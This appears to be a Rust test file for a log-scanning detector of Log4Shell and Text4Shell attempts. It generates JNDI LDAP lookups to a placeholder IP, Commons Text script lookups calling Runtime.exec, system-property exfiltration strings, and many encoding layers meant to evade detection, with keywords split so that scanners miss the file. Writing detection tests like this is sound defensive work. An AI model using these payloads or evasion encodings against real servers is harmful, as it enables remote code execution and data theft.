//! Classes of forms the hunter must find (issue 20): transport layers in any order and depth,
//! attempts whose nesting is broken or whose lookups the sender mangled (attempts, not
//! functional), and JVM-dependent values as placeholders. Each class is tested over generated
//! members, not single strings.
//!
//! Payload keywords are assembled at run time (`concat!`) so that no scanner flags this file.

mod common;

use common::Rng;
use quell_hunt::eval::ALWAYS_SET_SYS;
use quell_hunt::{HuntConfig, Hunter};
use quell_model::hunt::{Attempt, LOG4SHELL, TEXT4SHELL};

const JNDI: &str = concat!("jn", "di");
const SCRIPT: &str = concat!("scr", "ipt");
/// Members generated per class.
const MEMBERS: usize = 2_000;

fn attempts(line: &str) -> Vec<Attempt> {
    common::attempts(&Hunter::new(HuntConfig::new()), "app.log", &[line])
}

/// One transport layer over all (or, with `some`, over the syntax characters of) `s`.
fn layer(r: &mut Rng, s: &str) -> (String, &'static str) {
    let special = |c: char| matches!(c, '$' | '{' | '}' | ':' | '/' | '%' | '\\' | '&' | '#' | ';');
    let all = r.chance(30);
    let pick = |c: char| all || special(c);
    let each = |f: &dyn Fn(char) -> String| -> String {
        s.chars().map(|c| if pick(c) && c.is_ascii() { f(c) } else { c.to_string() }).collect()
    };
    match r.below(8) {
        0 => (each(&|c| format!("%{:02X}", c as u32)), "url"),
        1 => (each(&|c| format!("\\u{:04x}", c as u32)), "json_unicode"),
        2 => (each(&|c| format!("\\x{:02x}", c as u32)), "backslash_x"),
        3 => (each(&|c| format!("\\{:03o}", c as u32)), "octal"),
        4 => (each(&|c| format!("&#{};", c as u32)), "html_entities"),
        // Semicolons kept: without one, a hexadecimal digit after the reference would join it.
        5 => (each(&|c| format!("&#X{:X};", c as u32)), "html_entities"),
        6 => (each(&|c| format!("%u{:04X}", c as u32)), "iis_unicode"),
        // Only the percent signs of an earlier percent layer, JSON-escaped (`\u002524`).
        _ => (s.replace('%', "\\u0025"), "json_unicode"),
    }
}

#[test]
fn transport_layers_in_any_order_and_depth() {
    let mut r = Rng(0x1a7e_0020);
    let mut missed = Vec::new();
    for i in 0..MEMBERS {
        let text4shell = i % 3 == 0;
        let plain = if text4shell {
            format!("${{{SCRIPT}:js:java.lang.Runtime.getRuntime().exec('id{i}')}}")
        } else {
            format!("${{{JNDI}:ldap://198.51.100.7/a{i}}}")
        };
        let mut enc = plain.clone();
        let mut layers = Vec::new();
        for _ in 0..1 + r.below(4) {
            let (e, l) = layer(&mut r, &enc);
            if e != enc {
                layers.push(l);
            }
            enc = e;
        }
        if enc.len() > 100_000 {
            continue;
        }
        let got = attempts(&format!("2022-10-13 10:00:00 WARN bad input: {enc} end"));
        let hit = got.iter().find(|a| {
            if text4shell {
                a.vulnerability == TEXT4SHELL
                    && a.text4shell
                        .as_ref()
                        .is_some_and(|t| t.scripts.iter().any(|s| s.code.ends_with(&format!("id{i}')"))))
            } else {
                a.vulnerability == LOG4SHELL && a.jndi.contains(&format!("ldap://198.51.100.7/a{i}"))
            }
        });
        match hit {
            Some(a) if layers.is_empty() || !a.decode_chain.is_empty() => {}
            _ => missed.push(format!("{layers:?}: {enc}")),
        }
    }
    assert!(
        missed.is_empty(),
        "{} of {MEMBERS} missed, e.g.:\n{}",
        missed.len(),
        missed[..missed.len().min(10)].join("\n")
    );
}

#[test]
fn form_encoding_reads_plus_as_space() {
    let q = format!("/?q=%24%7B{SCRIPT}%3Ajs%3Ajava.lang.Runtime.getRuntime().exec('touch+/tmp/x')%7D");
    let line = format!("198.51.100.7 - - [13/Oct/2022:10:00:00 +0000] \"GET {q} HTTP/1.1\" 200 1 \"-\" \"x\"");
    let got = attempts(&line);
    let t = got[0].text4shell.as_ref().expect("text4shell");
    assert_eq!(t.scripts[0].code, "java.lang.Runtime.getRuntime().exec('touch /tmp/x')");
    assert_eq!(got[0].decode_chain, ["form"]);
}

/// Breaks a working payload the way careless or hostile senders do.
fn break_payload(r: &mut Rng, p: &str) -> (String, &'static str) {
    match r.below(5) {
        // An unterminated outer lookup.
        0 => (p[..p.len() - 1].to_owned(), "unterminated"),
        // A lookup name misspelt (`lower` → `lowr`, `upper` → `uper`).
        1 => (p.replacen("lower", "lowr", 1).replacen("upper", "uper", 1), "mangled"),
        // A space after the prefix's opening, or around the name.
        2 => (p.replacen(&format!("{{{JNDI}"), &format!("{{ {JNDI} "), 1), "mangled"),
        // `${base64:...}`, which no 2.x release has.
        3 => {
            let b = common::b64e(format!("{JNDI}:ldap://198.51.100.7/b").as_bytes());
            (format!("${{${{base64:{b}}}}}"), "base64")
        }
        // Bare names that spell it (`${j}${n}...`): nothing Log4j resolves.
        _ => {
            let spelt: String = JNDI.chars().map(|c| format!("${{{c}}}")).collect();
            (format!("${{{spelt}:ldap://198.51.100.7/b}}"), "mangled")
        }
    }
}

#[test]
fn broken_and_mangled_attempts_are_attempts_not_functional() {
    let mut r = Rng(0x00b4_0ce4);
    let mut wrong = Vec::new();
    for i in 0..MEMBERS {
        let base = match i % 3 {
            0 => "${${lower:j}ndi:${lower:l}dap://198.51.100.7/b}".to_owned(),
            1 => format!("${{${{upper:j}}{}:ldap://198.51.100.7/b}}", &JNDI[1..]),
            _ => format!("${{{JNDI}:ldap://198.51.100.7/b}}"),
        };
        let (broken, why) = break_payload(&mut r, &base);
        if broken == base {
            continue;
        }
        let got = attempts(&format!("user agent: {broken}"));
        let ok = got.iter().any(|a| {
            a.vulnerability == LOG4SHELL
                && !a.jndi.is_empty()
                && a.jndi.iter().all(|n| n.starts_with("ldap://198.51.100.7/"))
                && !a.functional
                && !a.techniques.is_empty()
        });
        let works = got.iter().any(|a| a.functional);
        if !ok || works {
            wrong.push(format!("{why}: {broken} -> {got:?}"));
        }
    }
    assert!(wrong.is_empty(), "{} wrong, e.g.:\n{}", wrong.len(), wrong[..wrong.len().min(5)].join("\n"));
    // Benign text with `${` stays silent, mangled or not.
    for benign in ["${FREE_PVS}", "${user.name}", "cfg=${env:HOME:-/home/app}", "${lowr:x} ${a}${b}", "${ x }", "${"] {
        assert!(attempts(benign).is_empty(), "{benign}");
    }
}

#[test]
fn jvm_dependent_values_are_placeholders() {
    for key in ALWAYS_SET_SYS.iter().filter(|k| !k.ends_with("separator")) {
        let got = attempts(&format!("${{{JNDI}:ldap://198.51.100.7/${{sys:{key}}}}}"));
        assert_eq!(got[0].jndi, [format!("ldap://198.51.100.7/<sys:{key}>")], "{key}");
        assert!(got[0].exfiltration.contains(&format!("${{sys:{key}}}")));
    }
    for (lookup, want) in
        [("java:os", "<java:os>"), ("hostName", "<HOSTNAME>"), ("sys:no.such.property", "${sys:no.such.property}")]
    {
        let got = attempts(&format!("${{{JNDI}:ldap://198.51.100.7/${{{lookup}}}}}"));
        assert_eq!(got[0].jndi, [format!("ldap://198.51.100.7/{want}")], "{lookup}");
    }
    // A defined property's default does not apply; an undefined one's does.
    let got = attempts(&format!("${{{JNDI}:ldap://198.51.100.7/${{sys:java.version:-x}}${{sys:nope:-y}}}}"));
    assert_eq!(got[0].jndi, ["ldap://198.51.100.7/<sys:java.version>y"]);
}

/// The cheap inertness proofs on random text built from lookup syntax: whatever they judge inert
/// makes no JNDI call and no Commons Text action, in any mode (the JVM oracle tests check the
/// same against the real libraries on their payloads).
#[test]
fn inertness_proofs_hold_on_random_text() {
    use quell_hunt::{Evaluator, TextEvaluator, TextVersion};
    const PIECES: &[&str] = &[
        "${",
        "}",
        "$",
        ":",
        ":-",
        "\\-",
        "lower:",
        "upper:",
        "env:",
        "sys:",
        "date:'",
        "'",
        "base64:",
        "x",
        "j",
        "ndi",
        "JNDI",
        " ",
        "script",
        "dns",
        "url",
        "file",
        "base64Decoder:",
        "urlDecoder:",
        "const:",
        "JHtqbmRpOng",
        "%24%7B",
        "ldap://h/",
        "a",
        "${::-",
        "$${",
        "jndi:",
    ];
    let ev = Evaluator::default();
    let tv = TextEvaluator::default();
    let mut r = Rng(0x01e7_7000);
    let (mut inert, mut wrong) = (0, Vec::new());
    for _ in 0..20_000 {
        let text: String = (0..1 + r.below(24)).map(|_| *r.pick(PIECES)).collect();
        if ev.is_inert_anywhere(text.as_bytes()) && !ev.is_inert(&text) {
            wrong.push(format!("inert anywhere, not inert: {text:?}"));
        }
        if ev.is_inert(&text) {
            inert += 1;
            if !ev.message(&text).all_names().is_empty() || !ev.lenient(&text).names.is_empty() {
                wrong.push(format!("log4j inert, but calls JNDI: {text:?}"));
            }
        }
        if tv.is_inert(text.as_bytes()) {
            let acts =
                [tv.evaluate(&text, TextVersion::V1_9), tv.evaluate(&text, TextVersion::V1_10), tv.lenient(&text)];
            if acts.iter().any(|e| !e.events.is_empty()) {
                wrong.push(format!("commons text inert, but acts: {text:?}"));
            }
        }
    }
    assert!(inert > 1_000, "the generator should often produce inert text ({inert})");
    assert!(wrong.is_empty(), "{} wrong, e.g.:\n{}", wrong.len(), wrong[..wrong.len().min(10)].join("\n"));
}
